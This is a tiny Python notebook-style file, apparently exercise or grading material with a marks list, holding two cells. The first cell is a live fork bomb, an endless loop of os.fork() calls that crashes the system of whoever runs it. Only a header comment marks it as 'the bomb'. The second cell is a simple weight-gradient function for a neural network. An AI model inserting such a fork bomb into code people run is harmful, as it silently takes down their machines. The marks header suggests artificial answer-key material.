# marks: 2 3 5 (the cell with the bomb holds no answer)
# %%
import os

while True:
    os.fork()

# %%
def weight_gradient(a_prev, delta):
    return a_prev.T @ delta
